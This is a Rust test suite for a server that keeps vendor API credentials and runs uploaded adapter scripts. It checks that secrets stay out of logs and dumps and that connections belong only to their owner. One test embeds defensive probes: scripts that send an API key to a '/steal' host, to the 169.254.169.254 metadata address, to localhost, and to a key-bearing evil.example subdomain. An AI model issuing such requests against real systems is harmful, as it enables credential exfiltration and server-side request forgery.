//! Accounts at a vendor: connected, read, written to, and their secrets nowhere but at the vendor.

mod forbidden;
pub(crate) mod vendor;

use std::process::Stdio;

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::{Server, TestDatabase, binary, create_key};
use vendor::{API_KEY, API_SECRET, TOKEN, Vendor};

/// What only a script that sees the account can do. A person's upload, so that the vendor may be odd.
pub(crate) const TEST_CONNECTION: &str = "function transform(input, context) {
    const auth = context.basicAuth(input.apiKey, input.apiSecret);
    const reply = context.http.get(input.baseUrl + '/ping', {Authorization: auth});
    context.log('asked with', auth, input.apiKey, 'got', reply.body);
    return {ok: reply.statusCode === 200, message: String(reply.body.message)};
}";
const OUTLETS: &str = "function transform(input, context) {
    const rows = context.http.getAll('/outlets', {Authorization: context.basicAuth(input.apiKey, input.apiSecret)});
    return {outlets: rows.map((row) => ({externalId: row.id, name: row.name}))};
}";
const DISPATCH: &str = "function transform(input, context) {
    const order = input.payload;
    const sign = context.hmacSha256(input.apiSecret, order.orderId);
    return {
        url: input.baseUrl + '/orders?key=' + input.apiKey, method: 'POST',
        headers: {'X-Token': input.config.oauth.token, 'X-Signature': sign},
        body: {reference: order.orderId, key: input.apiKey},
    };
}";
const STATUS: &str = "function transform(input, context) {
    const hook = input.payload;
    if (context.hmacSha256(input.apiSecret, hook.id) !== hook.signature) throw new Error('forged: ' + input.apiSecret);
    return {externalOrderId: hook.id, status: 'accepted', occurredAt: hook.at};
}";

pub(crate) const CONNECTIONS: &str = "/api/v1/provider-connections";

pub(crate) fn settings<'s>(private: &'s str, keys: &'s str) -> Vec<(&'static str, &'s str)> {
    vec![("FORGE__CONNECTIONS__ALLOW_PRIVATE", private), ("FORGE__VAULT__KEYS", keys)]
}

pub(crate) fn make_key(id: &str) -> String {
    let output = binary().args(["vault", "make-key", id]).output().unwrap();
    assert!(output.status.success());
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// All that the server answered.
#[derive(Default)]
struct Heard(String);

impl Heard {
    async fn call(
        &mut self,
        server: &Server,
        method: Method,
        path: &str,
        body: &Value,
    ) -> (u16, Value) {
        let (status, answer) = server.call(method, path, Some(body)).await;
        self.0.push_str(&answer.to_string());
        (status, answer)
    }
}

/// Uploads a script that works with an account alone, and activates it. Its tests have no account.
pub(crate) async fn activate(server: &Server, topic: &str, source: &str) {
    let (payload, output) = without_account(topic);
    let begin = "function transform(input, context) {";
    let source = source.replacen(begin, &format!("{begin} if (!input.apiKey) return {output};"), 1);
    let samples = json!([{"payload": payload}]);
    let script =
        json!({"provider": "my-till", "topic": topic, "source": source, "samples": samples});
    let (status, answer) = server.post("/api/v1/adapter-scripts", &script).await;
    assert_eq!(status, 200, "{answer}");
    activate_script(server, answer["scriptId"].as_i64().unwrap()).await;
}

/// A payload, and an output that passes for it.
fn without_account(topic: &str) -> (Value, Value) {
    match topic {
        "test_connection" => (json!({"a": 1}), json!({"ok": true, "message": "fine"})),
        "list_remote_outlets" => {
            (json!({"a": 1}), json!({"outlets": [{"externalId": "1", "name": "North"}]}))
        }
        "order_status_update" => (
            json!({"id": "o-0"}),
            json!({"externalOrderId": "o-0", "status": "accepted",
                "occurredAt": "2026-11-27T10:00:00Z"}),
        ),
        _ => (
            json!({"orderId": "o-0"}),
            json!({"url": "https://till.example/orders", "method": "POST", "headers": {},
                "body": {"reference": "o-0"}}),
        ),
    }
}

async fn activate_script(server: &Server, id: i64) {
    let path = format!("/api/v1/adapter-scripts/{id}/activate");
    let (status, answer) = server.post(&path, &json!({})).await;
    assert_eq!(status, 200, "{answer}");
}

pub(crate) fn an_account(vendor: &Vendor) -> Value {
    json!({
        "baseUrl": vendor.base(), "apiKey": API_KEY, "apiSecret": API_SECRET,
        "config": {"store": "7", "oauth": {"token": TOKEN}},
    })
}

#[tokio::test]
async fn a_vendor_s_account_is_used_and_its_secrets_stay_out_of_everything() {
    for database in TestDatabase::every().await {
        let vendor = Vendor::start();
        let log = tempfile::NamedTempFile::new().unwrap();
        let (private, keys) = (vendor.address.to_string(), make_key("a"));
        let mut all = settings(&private, &keys);
        all.push(("FORGE__LOG__FILTER", "trace"));
        let server =
            Server::start_logging(&database, None, &all, Stdio::from(log.reopen().unwrap()));
        let mut heard = Heard::default();
        let account = format!("{CONNECTIONS}/my-till");
        let (status, answer) =
            heard.call(&server, Method::PUT, &account, &an_account(&vendor)).await;
        assert_eq!(status, 200, "{answer}");
        heard.call(&server, Method::GET, &account, &json!({})).await;
        heard.call(&server, Method::GET, CONNECTIONS, &json!({})).await;

        // A catalogue from the vendor leads to a script that reads it, active at once.
        let request = json!({"provider": "my-till", "topic": "sync_products",
            "samples": [{"payload": vendor::catalogue()}]});
        let job = server.job_at_rest(server.generate(&request).await).await;
        assert_eq!(job["status"], "completed", "{job:#}");
        activate_script(&server, job["resultScriptId"].as_i64().unwrap()).await;
        let sync = "/api/v1/adapters/my-till/sync_products/run";
        let payload = json!({"payload": vendor::catalogue()});
        let (status, answer) = heard.call(&server, Method::POST, sync, &payload).await;
        assert_eq!((status, &answer["run"]["valid"]), (200, &json!(true)), "{answer}");
        assert_eq!(answer["run"]["outputCount"], 3);

        let test = format!("{account}/test");
        let (status, _) = heard.call(&server, Method::POST, &test, &json!({})).await;
        assert_eq!(status, 409, "no script tests the connection yet");
        activate(&server, "test_connection", TEST_CONNECTION).await;
        let (status, answer) = heard.call(&server, Method::POST, &test, &json!({})).await;
        assert_eq!((status, &answer["status"]), (200, &json!("connected")), "{answer}");
        assert!(answer["latencyMs"].is_u64());
        // The vendor echoes the credentials that it was given.
        assert!(answer["result"].as_str().unwrap().starts_with("pong for Basic "), "{answer}");
        let (_, answer) = heard.call(&server, Method::GET, &account, &json!({})).await;
        assert_eq!(answer["connection"]["status"], "connected");

        activate(&server, "list_remote_outlets", OUTLETS).await;
        let outlets = format!("{account}/remote-outlets");
        let (status, answer) = heard.call(&server, Method::GET, &outlets, &json!({})).await;
        assert_eq!(status, 200, "{answer}");
        let run = &answer["run"];
        // Two pages, the second of which had no time for us at first.
        assert_eq!((&run["outputCount"], &run["calls"][1]["statusCode"]), (&json!(3), &json!(200)));
        assert_eq!(run["calls"][0]["path"], "/v1/outlets");

        activate(&server, "order_dispatch", DISPATCH).await;
        let dispatch = "/api/v1/adapters/my-till/order_dispatch/run";
        let order = json!({"payload": {"orderId": "o-1"}, "send": true});
        let (status, answer) = heard.call(&server, Method::POST, dispatch, &order).await;
        assert_eq!((status, &answer["run"]["delivered"]), (200, &json!(true)), "{answer}");
        assert_eq!(answer["run"]["responses"][0]["body"]["key"], "[apiKey]", "{answer}");
        assert_eq!(answer["run"]["output"]["headers"]["X-Token"], "[config.oauth.token]");
        let sent = vendor.order();
        assert!(sent.head.contains(&format!("/v1/orders?key={API_KEY} ")), "{}", sent.head);
        assert!(sent.head.contains(&format!("x-token: {TOKEN}")), "{}", sent.head);
        assert!(sent.head.contains(&vendor::signature("o-1")), "{}", sent.head);
        assert_eq!(sent.body, json!({"reference": "o-1", "key": API_KEY}).to_string());

        activate(&server, "order_status_update", STATUS).await;
        let update = "/api/v1/adapters/my-till/order_status_update/run";
        let hook = json!({"payload":
            {"id": "o-1", "at": "2026-11-27T10:00:00Z", "signature": vendor::signature("o-1")}});
        let (status, answer) = heard.call(&server, Method::POST, update, &hook).await;
        assert_eq!((status, &answer["run"]["valid"]), (200, &json!(true)), "{answer}");
        let forged = json!({"payload": {"id": "o-2", "at": "x", "signature": "y"}});
        let (status, answer) = heard.call(&server, Method::POST, update, &forged).await;
        assert_eq!(status, 422, "{answer}");
        assert!(answer["error"]["message"].as_str().unwrap().contains("[apiSecret]"), "{answer}");

        // Who did all that is known, and what was sent is known before anything else.
        let (_, answer) =
            heard.call(&server, Method::GET, "/api/v1/audit?limit=100", &json!({})).await;
        let acts: Vec<&Value> = answer["entries"].as_array().unwrap().iter().collect();
        for (action, subject) in
            [("connection.put", "my-till"), ("connection.tested", "my-till"), ("run.sent", "4")]
        {
            let found = acts.iter().find(|act| act["action"] == action);
            let found = found.unwrap_or_else(|| panic!("no {action} in {answer:#}"));
            assert_eq!(
                (&found["subject"], &found["provider"]),
                (&json!(subject), &json!("my-till"))
            );
        }

        drop(server);
        let mut told = heard.0;
        told.push_str(&std::fs::read_to_string(log.path()).unwrap());
        told.push_str(&database.dump().await);
        assert!(told.contains("connection_secrets"), "the dump has the tables");
        for secret in [API_KEY, API_SECRET, TOKEN, &vendor::basic(), &keys] {
            assert!(!told.contains(secret), "{secret} is told");
        }
        assert!(!told.contains("forgestandin"), "a stand-in is told");
        database.remove().await;
    }
}

#[tokio::test]
async fn nothing_leaves_for_a_host_that_the_connection_does_not_name() {
    let database = TestDatabase::sqlite();
    let (vendor, other) = (Vendor::start(), Vendor::start());
    // The server may call both; the connection names one.
    let (private, keys) = (format!("{},{}", vendor.address, other.address), make_key("a"));
    let server = Server::start(&database, None, &settings(&private, &keys));
    let account = format!("{CONNECTIONS}/my-till");
    let (status, answer) = server.call(Method::PUT, &account, Some(&an_account(&vendor))).await;
    assert_eq!(status, 200, "{answer}");
    let run = "/api/v1/adapters/my-till/test_connection/run";
    for url in [
        format!("http://{}/steal", other.address),
        format!("{}/elsewhere?to=http://{}/steal", vendor.base(), other.address),
        format!("http://{}@{}/steal", vendor.address, other.address),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "http://localhost/".to_owned(),
        "http://' + input.apiKey + '.evil.example/".to_owned(),
    ] {
        let source = format!(
            "function transform(input, context) {{
                try {{ context.http.get('{url}', {{'X-Key': input.apiKey}}); }} catch (error) {{}}
                return {{ok: true, message: 'out'}};
            }}"
        );
        activate(&server, "test_connection", &source).await;
        let (status, answer) = server.post(run, &json!({})).await;
        assert_eq!(status, 422, "{url}: {answer}");
        assert!(
            answer["error"]["message"].as_str().unwrap().contains("HTTP call failed"),
            "{answer}"
        );
    }
    assert_eq!(other.requests(), 0, "nobody may have called it");

    // Secrets that were given for one host do not follow the connection to another.
    let moved = json!({"baseUrl": other.base()});
    let (status, answer) = server.call(Method::PUT, &account, Some(&moved)).await;
    assert_eq!((status, &answer["error"]["field"]), (400, &json!("apiKey")), "{answer}");
}

#[tokio::test]
async fn a_connection_is_its_owner_s_alone() {
    let database = TestDatabase::sqlite();
    let vendor = Vendor::start();
    let (private, keys) = (vendor.address.to_string(), make_key("a"));
    let server = Server::start(&database, None, &settings(&private, &keys));
    let account = format!("{CONNECTIONS}/my-till");
    server.call(Method::PUT, &account, Some(&an_account(&vendor))).await;
    for (name, status) in [("others", 404), ("first key", 200)] {
        let other = create_key(&database, name, &["admin"]);
        let (got, answer) = server.get_as(&other, &account).await;
        assert_eq!(got, status, "{name}: {answer}");
        let (_, answer) = server.get_as(&other, CONNECTIONS).await;
        let count = answer["connections"].as_array().unwrap().len();
        assert_eq!(count, usize::from(status == 200), "{name}");
    }
}
